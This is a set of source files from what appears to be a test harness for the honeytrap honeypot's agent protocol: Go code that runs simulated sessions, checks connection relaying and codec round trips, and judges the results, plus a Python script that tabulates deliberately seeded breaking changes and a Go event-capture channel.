		ob.Err = "dial: " + err.Error()
		return ob
	}
	a := &agentConn{c: c}
	defer c.Close()
	// handshake message, as the real agent sends it
	hs := binary.LittleEndian.AppendUint16(nil, 1)
	for _, s := range []string{"v-test", "abc123", "abc123def", "token-" + fmt.Sprint(k)} {
		hs = encData(hs, []byte(s))
	}
	if err := a.send(tHS, hs); err != nil {
		ob.Err = "handshake send: " + err.Error()
		return ob
	}
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if f, err := a.recv(); err != nil || f.Typ != tHSR {
		ob.Err = fmt.Sprintf("handshake response: %v (type %d)", err, f.Typ)
		return ob
	}
	// reader: collect frames coming back
	type back struct {
		data map[string][]byte
		eof  map[string]bool
		udp  int
		// udpFrames: (address pair, payload) of every datagram that came back
		udpFrames [][2]string
		other     []string
		closed    bool
	}
	bk := &back{data: map[string][]byte{}, eof: map[string]bool{}}
	var bmu sync.Mutex
	rdone := make(chan struct{})
	go func() {
		defer close(rdone)
		for {
			c.SetReadDeadline(time.Now().Add(30 * time.Second))
			f, err := a.recv()
			if err != nil {
				bmu.Lock()
				bk.closed = true
				bmu.Unlock()
				return
			}
			bmu.Lock()
			switch f.Typ {
			case tRWTCP, tRWUDP:
				l, rest, ok1 := decAddr(f.Body)
				r, rest, ok2 := decAddr(rest)
				d, _, ok3 := decData(rest)
				if !ok1 || !ok2 || !ok3 {
					bk.other = append(bk.other, fmt.Sprintf("undecodable frame type %d (%d bytes)", f.Typ, len(f.Body)))
				} else if f.Typ == tRWUDP {
					bk.udp++
					bk.udpFrames = append(bk.udpFrames, [2]string{l.String() + "|" + r.String(), string(d)})
				} else {
					key := l.String() + "|" + r.String()
					bk.data[key] = append(bk.data[key], d...)
				}
			case tEOF:
				l, rest, ok1 := decAddr(f.Body)
				r, _, ok2 := decAddr(rest)
				if ok1 && ok2 {
					bk.eof[l.String()+"|"+r.String()] = true
				}
			default:
				bk.other = append(bk.other, fmt.Sprintf("unexpected frame type %d", f.Typ))
			}
			bmu.Unlock()
		}
	}()
	var shadow *agentConn
	var shadowAddr []byte
	defer func() {
		if shadow != nil {
			shadow.c.Close()
		}
	}()
	want := make([][]byte, sc.Conns)
	seq := make([]int, sc.Conns)
	eofSent := make([]bool, sc.Conns)
	helloSent := make([]bool, sc.Conns)
	pre := make([]int, sc.Conns) // earlier connections with the same address pair, announced and ended before
	expired := false
	udpSeq := 0
	sentUDP := map[string][]string{}
	for _, m := range sc.Msgs {
		switch m.Kind {
		case "hello", "dup-hello":
			l, r := addrOfSc(sc, k, m.Conn, false)
			a.send(tHello, encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port))
			helloSent[m.Conn] = true
			if sc.Shadow && shadow == nil && !sc.Park {
				time.Sleep(3 * time.Millisecond) // this session's connection is announced first
				if sc2, err := libdisco.Dial("tcp", listen, &libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: key}); err == nil {
					shadow = &agentConn{c: sc2}
					hs2 := binary.LittleEndian.AppendUint16(nil, 1)
					for _, s := range []string{"v-test", "abc123", "abc123def", "shadow-" + fmt.Sprint(k)} {
						hs2 = encData(hs2, []byte(s))
					}
					shadow.send(tHS, hs2)
					sc2.SetReadDeadline(time.Now().Add(5 * time.Second))
					shadow.recv()
					go func() { // whatever comes back on the shadow session is its own business
						for {
							sc2.SetReadDeadline(time.Now().Add(30 * time.Second))
							if _, err := shadow.recv(); err != nil {
								return
							}
						}
					}()
					shadowAddr = encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port)
					shadow.send(tHello, shadowAddr)
					shadow.send(tRWTCP, encData(append([]byte(nil), shadowAddr...), []byte("SHADOW|"+strings.Repeat("s", 20))))
				}
			}
			if sc.Park {
				deadline := time.Now().Add(3 * time.Second)
				for atomic.LoadInt64(&parkHits) == 0 && time.Now().Before(deadline) {
					time.Sleep(time.Millisecond)
				}
				ob.Parked = atomic.LoadInt64(&parkHits)
			}
		case "data":
			l, r := addrOfSc(sc, k, m.Conn, false)
			pl := stampPayload(k, m.Conn, seq[m.Conn], m.Len)
			seq[m.Conn]++
			want[m.Conn] = append(want[m.Conn], pl...)
			a.send(tRWTCP, encData(encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port), pl))
		case "eof":
			if sc.Deadline && !expired {
				expired = true
				time.Sleep(15 * time.Millisecond) // the services' write deadlines (5 ms) pass
			}
			l, r := addrOfSc(sc, k, m.Conn, false)
			a.send(tEOF, encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port))
			eofSent[m.Conn] = true
			if sc.Park {
				time.Sleep(60 * time.Millisecond) // let the listener process data and EOF while the reader is parked
				close(gate)
			}
		case "pre-hello":
			l, r := addrOfSc(sc, k, m.Conn, false)
			a.send(tHello, encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port))
			pre[m.Conn]++
		case "pre-eof":
			// ends the earlier connection with this address pair and waits until its service has seen the end
			l, r := addrOfSc(sc, k, m.Conn, false)
			a.send(tEOF, encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port))
			rs, ls := (&net.TCPAddr{IP: r.IP, Port: r.Port}).String(), (&net.TCPAddr{IP: l.IP, Port: l.Port}).String()
			for dl := time.Now().Add(3 * time.Second); time.Now().Before(dl); time.Sleep(time.Millisecond) {
				ended := false
				for _, call := range lab.Stubs.Snapshot() {
					if call.Remote == rs && call.Local == ls && call.Done {
						ended = true
					}
				}
				if ended {
					break
				}
			}
		case "wait-eof":
			l, r := addrOfSc(sc, k, m.Conn, false)
			key := l.String() + "|" + r.String()
			deadline := time.Now().Add(3 * time.Second)
			for time.Now().Before(deadline) {
				bmu.Lock()
				got := bk.eof[key]
				bmu.Unlock()
				if got {
					break
				}
				time.Sleep(time.Millisecond)
			}
		case "late-data":
			l, r := addrOfSc(sc, k, m.Conn, false)
			a.send(tRWTCP, encData(encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port), stampPayload(k, 70+m.Conn, 0, m.Len)))
		case "unknown-data":
			l, r := addrOfSc(sc, k, 77, false)
			a.send(tRWTCP, encData(encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port), []byte("stray")))
		case "unknown-eof":
			l, r := addrOfSc(sc, k, 78, false)
			a.send(tEOF, encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port))
		case "ping":
			a.send(tPing, nil)
		case "udp":
			l, r := addrOfSc(sc, k, m.Conn, true)
			udpSeq++
			pl := stampPayload(k, 90+m.Conn, udpSeq, m.Len)
			sentUDP[l.String()+"|"+r.String()] = append(sentUDP[l.String()+"|"+r.String()], string(pl))
			a.send(tRWUDP, encData(encAddr(encAddr(nil, l.Proto, l.IP, l.Port), r.Proto, r.IP, r.Port), pl))
			if m.Len > 0 { // an empty datagram gives the echoing service nothing to send back
				ob.UDPSent++
			}
		}
	}
	// wait until every connection that was told EOF has been seen ended by the service and echoed back
	deadline := time.Now().Add(6 * time.Second)
	settled := func() bool {
		calls := lab.Stubs.Snapshot()
		for ci := 0; ci < sc.Conns; ci++ {
			if !helloSent[ci] {
				continue
			}
			lw, r := addrOfSc(sc, k, ci, false)
			var call *lab.StubCall
			surfaced := 0
			for i := range calls {
				if calls[i].Remote == (&net.TCPAddr{IP: r.IP, Port: r.Port}).String() && calls[i].Local == (&net.TCPAddr{IP: lw.IP, Port: lw.Port}).String() && !bytes.HasPrefix(calls[i].Data, []byte("SHADOW|")) {
					call = &calls[i]
					surfaced++
				}
			}
			if call == nil || surfaced < 1+pre[ci] {
				return false
			}
			if eofSent[ci] && !call.Done {
				return false
			}
			if !eofSent[ci] && len(call.Data) < len(want[ci]) {
				return false
			}
			bmu.Lock()
			l, _ := addrOfSc(sc, k, ci, false)
			el := len(bk.data[l.String()+"|"+r.String()])
			bmu.Unlock()
			if el < len(call.Data) || (sc.Blob > 0 && len(call.Data) > 0 && el < sc.Blob) {
				return false
			}
		}
		bmu.Lock()
		u := bk.udp
		bmu.Unlock()
		return u >= ob.UDPSent
	}
	for !settled() && time.Now().Before(deadline) {
		time.Sleep(2 * time.Millisecond)
	}
	if sc.Disconnect {
		if sc.Deadline && !expired {
			time.Sleep(15 * time.Millisecond)
		}
		c.Close()
		// every connection of the session must now end
		dl := time.Now().Add(5 * time.Second)
		for time.Now().Before(dl) {
			all := true
			for _, call := range lab.Stubs.Snapshot() {
				if call.Net == "tcp" && !call.Done && !bytes.HasPrefix(call.Data, []byte("SHADOW|")) {
					all = false // (the shadow session's connection is its own and stays open)
				}
			}
			if all {
				ob.DoneAfterDisconnect = true
				break
			}
			time.Sleep(2 * time.Millisecond)
		}
	}
	time.Sleep(3 * time.Millisecond)
	calls := lab.Stubs.Snapshot()
	bmu.Lock()
	defer bmu.Unlock()
	known := map[string]bool{}
	for ci := 0; ci < sc.Conns; ci++ {
		l, r := addrOfSc(sc, k, ci, false)
		key := l.String() + "|" + r.String()
		known[key] = true
		co := connObs{Announced: key, WantLen: len(want[ci]), EOFSent: eofSent[ci], GotEOF: bk.eof[key]}
		if !helloSent[ci] {
			ob.Conns = append(ob.Conns, co)
			continue
		}
		rs := (&net.TCPAddr{IP: r.IP, Port: r.Port}).String()
		ls := (&net.TCPAddr{IP: l.IP, Port: l.Port}).String()
		for i := range calls {
			if calls[i].Remote == rs && calls[i].Local == ls && !bytes.HasPrefix(calls[i].Data, []byte("SHADOW|")) {
				co.Calls++
				co.Local, co.Remote = calls[i].Local, calls[i].Remote
				co.ReadLen = len(calls[i].Data)
				co.ReadOK = bytes.Equal(calls[i].Data, want[ci])
				co.Done = calls[i].Done
				if !co.ReadOK {
					co.Diff = describeDiff(calls[i].Data, want[ci])
				}
			}
		}
		echo := bk.data[key]
		co.EchoLen = len(echo)
		co.EchoOK = bytes.Equal(echo, want[ci][:mini(len(want[ci]), co.ReadLen)]) || bytes.Equal(echo, want[ci])
		if sc.Blob > 0 {
			// what comes back is the service's single large Write, complete and in order
			co.EchoOK = bytes.Equal(echo, lab.Blob(sc.Blob))
			if !co.EchoOK && co.Diff == "" {
				co.Diff = "service wrote " + fmt.Sprint(sc.Blob) + " bytes in one call; " + describeDiff(echo, lab.Blob(sc.Blob))
			}
		}
		ob.Conns = append(ob.Conns, co)
	}
	for key, d := range bk.data {
		if !known[key] {
			ob.Foreign = append(ob.Foreign, fmt.Sprintf("%d bytes came back tagged %s, which is no connection of this session", len(d), key))
		}
	}
	// a datagram that comes back carries the addresses of the datagram it answers
	for _, uf := range bk.udpFrames {
		ok := false
		for _, pl := range sentUDP[uf[0]] {
			if pl == uf[1] {
				ok = true
			}
		}
		if !ok {
			owner := "no datagram of this session"
			for key, pls := range sentUDP {
				for _, pl := range pls {
					if pl == uf[1] {
						owner = "the datagram sent for " + key
					}
				}
			}
			ob.Foreign = append(ob.Foreign, fmt.Sprintf("a %d-byte datagram came back tagged %s; its content answers %s", len(uf[1]), uf[0], owner))
		}
	}
	ob.Foreign = append(ob.Foreign, bk.other...)
	ob.UDPEcho = bk.udp
	return ob
}

func describeDiff(got, want []byte) string {
	switch {
	case len(got) < len(want) && bytes.HasPrefix(want, got):
		return fmt.Sprintf("service read only the first %d of %d bytes", len(got), len(want))
	case len(got) > len(want) && bytes.HasPrefix(got, want):
		return fmt.Sprintf("service read %d extra bytes", len(got)-len(want))
	default:
		i := 0
		for i < len(got) && i < len(want) && got[i] == want[i] {
			i++
		}
		return fmt.Sprintf("bytes differ from offset %d (read %d, announced %d)", i, len(got), len(want))
	}
}

type params struct {
	Mode string `json:"mode"` // sess | codec
	Off  int    `json:"off"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	all := scenarios(tier, seed)
	chunks := 6
	if tier == "thorough" {
		chunks = 14
	}
	per := (len(all) + chunks - 1) / chunks
	var plan []core.Batch
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > len(all) {
			n = len(all) - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Mode: "sess", Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("sess/%d", c), N: n, Params: p, Timeout: 1800})
		if c < 2 { // the same sessions under the race detector (diagnostic)
			plan = append(plan, core.Batch{Name: fmt.Sprintf("sess/%d/race", c), N: mini(n, 40), Params: p, Race: true, Timeout: 1800})
		}
	}
	p, _ := json.Marshal(params{Mode: "codec"})
	plan = append(plan, core.Batch{Name: "codec", N: 1, Params: p, Timeout: 900})
	return plan
}

func freePort() int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return 0
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	if p.Mode == "codec" {
		o.Begin(0)
		childCodec(b, o)
		o.End(0)
		return
	}
	port := freePort()
	listen := fmt.Sprintf("127.0.0.1:%d", port)
	cfg := fmt.Sprintf("[listener]\ntype=\"agent\"\nlisten=%q\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n[service.echo]\ntype=\"lab-stub-plain\"\nname=\"echo\"\necho=true\n[service.echod]\ntype=\"lab-stub-plain\"\nname=\"echod\"\necho=true\nwrite_deadline_ms=5\n[[port]]\nport=\"tcp/8026\"\nservices=[\"echod\"]\n[[port]]\nports=[\"tcp/8022\",\"tcp/8023\",\"tcp/8024\",\"tcp/8025\"]\nservices=[\"echo\"]\n[[port]]\nport=\"udp/8053\"\nservices=[\"echo\"]\n[service.blob70k]\ntype=\"lab-stub-plain\"\nname=\"blob70k\"\nblob_bytes=70000\n[[port]]\nport=\"tcp/8027\"\nservices=[\"blob70k\"]\n[service.blob200k]\ntype=\"lab-stub-plain\"\nname=\"blob200k\"\nblob_bytes=200000\n[[port]]\nport=\"tcp/8028\"\nservices=[\"blob200k\"]\n[service.blob64k]\ntype=\"lab-stub-plain\"\nname=\"blob64k\"\nblob_bytes=65536\n[[port]]\nport=\"tcp/8029\"\nservices=[\"blob64k\"]\n[service.echoclose]\ntype=\"lab-stub-plain\"\nname=\"echoclose\"\necho=true\nclose_after_first=true\n[[port]]\nport=\"tcp/8031\"\nservices=[\"echoclose\"]\n[service.echoslow]\ntype=\"lab-stub-plain\"\nname=\"echoslow\"\necho=true\nreply_delay_ms=40\n[[port]]\nport=\"udp/8054\"\nservices=[\"echoslow\"]\n", listen)
	srv, err := lab.StartWith(cfg, false)
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	_ = srv
	var key []byte
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		c, err := net.DialTimeout("tcp", listen, 200*time.Millisecond)
		if err == nil {
			c.Close()
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	st, err := agent.Storage()
	if err == nil {
		if kp, err := st.KeyPair(); err == nil {
			key = kp.PublicKey[:]
		}
	}
	if key == nil {
		o.Emit(core.Rec{T: "starterr", S: "no agent server key"})
		return
	}
	all := scenarios(b.Tier, b.Seed)
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
		o.Begin(k)
		o.EmitX("scn", runScenario(p.Off+k, all[p.Off+k], listen, key))
		o.End(k)
	}
}

// ---- codec round trips --------------------------------------------------------------------

type codecObs struct {
	Cases      int      `json:"cases"`
	Mismatches []string `json:"mismatches"`
}

func childCodec(b core.Batch, o *core.Obs) {
	var ob codecObs
	bad := func(f string, a ...interface{}) {
		if len(ob.Mismatches) < 20 {
			ob.Mismatches = append(ob.Mismatches, fmt.Sprintf(f, a...))
		}
	}
	ips := []net.IP{net.ParseIP("1.2.3.4"), net.ParseIP("1.2.3.4").To4(), net.ParseIP("::1"), net.ParseIP("2001:db8::99"), net.IPv4zero.To4()}
	sameAddr := func(a net.Addr, proto byte, ip net.IP, port int) bool {
		switch x := a.(type) {
		case *net.TCPAddr:
			return proto == 6 && x.IP.Equal(ip) && x.Port == port
		case *net.UDPAddr:
			return proto == 17 && x.IP.Equal(ip) && x.Port == port
		}
		return false
	}
	mk := func(proto byte, ip net.IP, port int) net.Addr {
		if proto == 6 {
			return &net.TCPAddr{IP: ip, Port: port}
		}
		return &net.UDPAddr{IP: ip, Port: port}
	}
	// all ports, both directions, Hello
	for port := 0; port < 65536; port++ {
		ip := ips[port%len(ips)]
		proto := []byte{6, 17}[port%2]
		ob.Cases++
		// honeytrap encodes, the independent decoder reads
		hb, _ := agent.Hello{Laddr: mk(proto, ip, port), Raddr: mk(proto, ips[(port+1)%len(ips)], 65535-port)}.MarshalBinary()
		l, rest, ok1 := decAddr(hb)
		r, _, ok2 := decAddr(rest)
		if !ok1 || !ok2 || l.Proto != proto || !l.IP.Equal(ip) || l.Port != port || r.Port != 65535-port {
			bad("Hello with port %d: honeytrap's encoding decodes to %v / %v", port, l, r)
		}
		// the independent encoder writes, honeytrap decodes
		var h agent.Hello
		wire := encAddr(encAddr(nil, proto, ip, port), proto, ips[(port+2)%len(ips)], (port*7)%65536)
		if err := h.UnmarshalBinary(wire); err != nil || !sameAddr(h.Laddr, proto, ip, port) || !sameAddr(h.Raddr, proto, ips[(port+2)%len(ips)], (port*7)%65536) {
			bad("Hello with port %d: honeytrap decodes the wire form to %v / %v (err %v)", port, h.Laddr, h.Raddr, err)
		}
	}
	// payload lengths
	lens := []int{0, 1, 2, 255, 256, 1000, 4000, 4096, 32767, 32768, 65000}
	for i := 0; i < 3000; i++ {
		r := core.NewRng(b.Seed, "C16/codec", i)
		n := lens[i%len(lens)]
		if i >= len(lens)*20 {
			n = r.Intn(65001)
		}
		pl := r.Bytes(n)
		ip1, ip2 := ips[r.Intn(len(ips))], ips[r.Intn(len(ips))]
		p1, p2 := r.Intn(65536), r.Intn(65536)
		ob.Cases++
		for _, udp := range []bool{false, true} {
			proto := byte(6)
			if udp {
				proto = 17
			}
			var enc []byte
			if udp {
				enc, _ = agent.ReadWriteUDP{Laddr: mk(proto, ip1, p1), Raddr: mk(proto, ip2, p2), Payload: pl}.MarshalBinary()
			} else {
				enc, _ = agent.ReadWriteTCP{Laddr: mk(proto, ip1, p1), Raddr: mk(proto, ip2, p2), Payload: pl}.MarshalBinary()
			}
			l, rest, ok1 := decAddr(enc)
			rr, rest, ok2 := decAddr(rest)
			d, rest, ok3 := decData(rest)
			if !ok1 || !ok2 || !ok3 || len(rest) != 0 || !bytes.Equal(d, pl) || l.Port != p1 || rr.Port != p2 || !l.IP.Equal(ip1) || !rr.IP.Equal(ip2) {
				bad("data message (udp=%v) with %d payload bytes: honeytrap's encoding does not decode to what was encoded", udp, n)
			}
			wire := encData(encAddr(encAddr(nil, proto, ip1, p1), proto, ip2, p2), pl)
			if udp {
				var m agent.ReadWriteUDP
				if err := m.UnmarshalBinary(wire); err != nil || !bytes.Equal(m.Payload, pl) || !sameAddr(m.Laddr, proto, ip1, p1) || !sameAddr(m.Raddr, proto, ip2, p2) {
					bad("ReadWriteUDP with %d payload bytes decodes to %d bytes, %v / %v", n, len(m.Payload), m.Laddr, m.Raddr)
				}
			} else {
				var m agent.ReadWriteTCP
				if err := m.UnmarshalBinary(wire); err != nil || !bytes.Equal(m.Payload, pl) || !sameAddr(m.Laddr, proto, ip1, p1) || !sameAddr(m.Raddr, proto, ip2, p2) {
					bad("ReadWriteTCP with %d payload bytes decodes to %d bytes, %v / %v", n, len(m.Payload), m.Laddr, m.Raddr)
				}
			}
		}
		// EOF and handshake
		var e agent.EOF
		if err := e.UnmarshalBinary(encAddr(encAddr(nil, 6, ip1, p1), 6, ip2, p2)); err != nil || !sameAddr(e.Laddr, 6, ip1, p1) || !sameAddr(e.Raddr, 6, ip2, p2) {
			bad("EOF decodes to %v / %v", e.Laddr, e.Raddr)
		}
		hsIn := agent.Handshake{ProtocolVersion: r.Intn(65536), Version: r.Alnum(r.Intn(20)), ShortCommitID: r.Alnum(7), CommitID: r.Alnum(40), Token: r.Alnum(r.Intn(64))}
		hb, _ := hsIn.MarshalBinary()
		var hsOut agent.Handshake
		if err := hsOut.UnmarshalBinary(hb); err != nil || hsOut != hsIn {
			bad("Handshake %+v decodes to %+v", hsIn, hsOut)
		}
		var addrs []net.Addr
		for j := r.Intn(6); j > 0; j-- {
			addrs = append(addrs, mk([]byte{6, 17}[r.Intn(2)], ips[r.Intn(len(ips))], r.Intn(65536)))
		}
		rb, _ := agent.HandshakeResponse{Addresses: addrs}.MarshalBinary()
		var ro agent.HandshakeResponse
		if err := ro.UnmarshalBinary(rb); err != nil || len(ro.Addresses) != len(addrs) {
			bad("HandshakeResponse with %d addresses decodes to %d", len(addrs), len(ro.Addresses))
		} else {
			for j := range addrs {
				if ro.Addresses[j] == nil || ro.Addresses[j].Network() != addrs[j].Network() || !strings.EqualFold(ro.Addresses[j].String(), addrs[j].String()) {
					bad("HandshakeResponse address %v decodes to %v", addrs[j], ro.Addresses[j])
				}
			}
		}
	}
	o.EmitX("codec", ob)
}

// ---- judge ----------------------------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	all := scenarios(b.Tier, b.Seed)
	flavour := ""
	if b.Race {
		flavour = "race|"
	}
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "codec":
			var ob codecObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: 0, Verdict: core.Held, Key: "codec", Sample: map[string]interface{}{"mode": "codec round trips against an independent encoder/decoder", "cases": ob.Cases, "all_ports": true}}
			if len(ob.Mismatches) > 0 {
				res.Verdict = core.Violated
				res.Sig = "C16|codec|" + strings.SplitN(ob.Mismatches[0], " ", 2)[0]
				res.What = ob.Mismatches[0]
				res.Witness = ob.Mismatches
			}
			out = append(out, res)
		case "scn":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			k := p.Off + r.K
			sc := all[k]
			res := core.Result{K: r.K, Verdict: core.Held}
			if ob.Err != "" {
				res.Verdict = core.Inconclusive
				res.What = "agent session could not be set up: " + ob.Err
				out = append(out, res)
				continue
			}
			fail := func(rule, what string) {
				if res.Verdict == core.Violated {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C16|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"scenario": sc, "observed": ob, "index": k}
			}
			delivered := false
			for ci, c := range ob.Conns {
				if c.ReadLen > 0 {
					delivered = true
				}
				helloed := false
				for _, m := range sc.Msgs {
					if m.Conn == ci && m.Kind == "hello" {
						helloed = true
					}
				}
				if !helloed {
					continue
				}
				announced := 1 // plus the earlier connections with the same address pair (announced and ended before)
				for _, m := range sc.Msgs {
					if m.Conn == ci && m.Kind == "pre-hello" {
						announced++
					}
				}
				switch {
				case c.Calls == 0:
					fail("connection-not-surfaced", fmt.Sprintf("virtual connection %d (%s) was announced but no service saw it", ci, c.Announced))
				case c.Calls < announced:
					fail("connection-not-surfaced|"+sc.Kind, fmt.Sprintf("address pair %s was announced %d times (each after the end of the one before), services saw %d connections", c.Announced, announced, c.Calls))
				case c.Calls > announced:
					fail("connection-surfaced-twice", fmt.Sprintf("virtual connection %d was surfaced %d times", ci, c.Calls))
				case !c.ReadOK && c.Done:
					cls := "lost-or-wrong-bytes"
					if strings.HasPrefix(c.Diff, "service read only") {
						cls = "eof-before-all-data"
					}
					if sc.Park {
						cls += "|parked-reader"
					}
					fail("service-stream|"+cls, fmt.Sprintf("virtual connection %d: %s, and the service saw end-of-stream", ci, c.Diff))
				case !c.ReadOK:
					fail("service-stream|wrong-bytes|"+sc.Kind, fmt.Sprintf("virtual connection %d: %s", ci, c.Diff))
				case !c.EchoOK:
					fail("return-stream|"+sc.Kind, fmt.Sprintf("virtual connection %d: the service wrote %d bytes, %d came back to the agent for it or they differ", ci, c.ReadLen, c.EchoLen))
				case c.EOFSent && !c.Done:
					fail("eof-not-delivered|"+sc.Kind, fmt.Sprintf("virtual connection %d: end-of-stream message sent, the service's connection was not ended", ci))
				case !c.EOFSent && c.Done && !sc.Disconnect && !(strings.HasPrefix(sc.Kind, "late-data-after-service-close") && ci == 0):
					fail("ended-without-eof|"+sc.Kind, fmt.Sprintf("virtual connection %d was ended although no end-of-stream was sent for it", ci))
				}
			}
			if sc.Disconnect && !ob.DoneAfterDisconnect {
				fail("disconnect-does-not-end-connections", "the agent disconnected and a virtual connection of its session was still open 5 s later")
			}
			if len(ob.Foreign) > 0 {
				fail("foreign-frame", ob.Foreign[0])
			}
			if ob.UDPEcho != ob.UDPSent {
				fail("udp-relay", fmt.Sprintf("%d UDP relay messages sent, %d came back from the echoing service", ob.UDPSent, ob.UDPEcho))
			}
			if delivered {
				jb, _ := json.Marshal(sc)
				res.Key = flavour + string(jb)
				res.Sample = map[string]interface{}{"kind": sc.Kind, "virtual_connections": sc.Conns, "messages": len(sc.Msgs), "first_messages": sc.Msgs[:mini(6, len(sc.Msgs))], "per_connection": ob.Conns, "reader_parked_at_yield_point": ob.Parked, "ipv6": sc.V6}
			}
			if sc.Park && ob.Parked == 0 && res.Verdict == core.Held {
				res.Verdict = core.Inconclusive
				res.What = "yield point agent.read.prewait was never reached"
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) in %s", e.Class, e.Frame, b.Name)})
		}
	}
	return out
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}

var _ = sort.Strings
