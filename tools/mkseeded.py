#!/usr/bin/env python3
"""Generates /verif/seeded/README.md from the meta.json files."""
import json, glob, os
rows = []
for f in sorted(glob.glob('/verif/seeded/*/meta.json')):
    d = json.load(open(f))
    rows.append((os.path.basename(os.path.dirname(f)), d))
out = ["# Seeded changes", "",
       "One directory per breaking change produced by an independent sub-agent that saw only the property",
       "text and its own scratch worktree of /repo (nothing from /verif). Each holds `patch.diff` (apply with",
       "`git -C /repo apply /verif/seeded/<id>/patch.diff`, undo with `git -C /repo checkout -- .`), the",
       "agent's demonstration (`demo/`, `demo_with.txt`, `demo_without.txt`), the tests of the touched",
       "packages with the change (`pkg_tests.txt`), the first check run (`check_quick.txt`) and `meta.json`.",
       "None of these changes is ever committed in /repo.", "",
       "| id | change | needs, to manifest | first run of the check | strengthening | caught by |",
       "|---|---|---|---|---|---|"]
missed = 0
uncaught = [n for n, d in rows if d.get('uncaught')]
for name, d in rows:
    first = (d.get('check_result_before') or d.get('check_result_first')) or d.get('check_result', '')
    if (d.get('check_result_before') or d.get('check_result_first')):
        missed += 1
    strengthening = d.get('strengthening', '-')
    if (d.get('check_result_before') or d.get('check_result_first')):
        strengthening += " Now: " + d.get('check_result', '')
    if d.get('aftermath'):
        strengthening += " Aftermath: " + d['aftermath']
    esc = lambda x: str(x).replace('|', '\\|').replace('\n', ' ')
    out.append("| %s | %s | %s | %s | %s | %s |" % (name, esc(d.get('change', '')), esc(d.get('needs_to_manifest', '')), esc(first), esc(strengthening), ", ".join(d.get('caught_by', []))))
out += ["", "%d changes; %d caught by the check as it was, %d missed at first and caught after the check was strengthened (the strengthening is generic - new input classes, delivery modes, fault points - not a test for the particular change), %d still uncaught%s." % (len(rows), len(rows) - missed, missed - len(uncaught), len(uncaught), (" (" + ", ".join(uncaught) + ")") if uncaught else ""), ""]
open('/verif/seeded/README.md', 'w').write("\n".join(out))
print(len(rows), "rows;", missed, "missed at first")
