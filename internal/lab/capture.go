package lab

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"

	"verif/htlab/internal/core"
)

func init() {
	pushers.Register("lab-capture", newCapture)
}

// Captured is one event as received by a capture channel.
type Captured struct {
	Ch  string
	Run int
	Seq int
	E   event.Event
	Rec core.EvRec
}

// Store collects everything the capture channels receive.
type Store struct {
	mu   sync.Mutex
	cond *sync.Cond
	evs  []Captured
	base int // index of evs[0]: events before it have been forgotten (Forget)
	run  int
	sink func(Captured)
}

var Events = func() *Store { s := &Store{}; s.cond = sync.NewCond(&s.mu); return s }()

type capture struct {
	ID string `toml:"id"`
	// StallFirstMs: the channel takes this long over the first event it is given (a pusher whose backend hangs for a
	// moment); the event is recorded when the stall is over
	StallFirstMs int `toml:"stall_first_ms"`
	stalled      int32
	run          int
}

func newCapture(options ...func(pushers.Channel) error) (pushers.Channel, error) {
	c := &capture{}
	for _, o := range options {
		if err := o(c); err != nil {
			return nil, err
		}
	}
	Events.mu.Lock()
	c.run = Events.run
	Events.mu.Unlock()
	return c, nil
}

func (c *capture) Send(e event.Event) {
	if c.StallFirstMs > 0 && atomic.CompareAndSwapInt32(&c.stalled, 0, 1) {
		time.Sleep(time.Duration(c.StallFirstMs) * time.Millisecond)
	}
	Events.add(c.ID, c.run, e)
}

// SetSink installs a function that sees every captured event (e.g. to stream it to the obs log).
func (s *Store) SetSink(f func(Captured)) { s.mu.Lock(); s.sink = f; s.mu.Unlock() }

// NextRun starts a new server run: later capture channels are stamped with it.
func (s *Store) NextRun() int { s.mu.Lock(); s.run++; r := s.run; s.mu.Unlock(); return r }

func (s *Store) add(ch string, run int, e event.Event) {
	rec := EncodeEvent(e)
	rec.Ch = ch
	rec.Run = run
	s.mu.Lock()
	rec.Seq = s.base + len(s.evs)
	c := Captured{Ch: ch, Run: run, Seq: rec.Seq, E: e, Rec: rec}
	s.evs = append(s.evs, c)
	sink := s.sink
	s.cond.Broadcast()
	s.mu.Unlock()
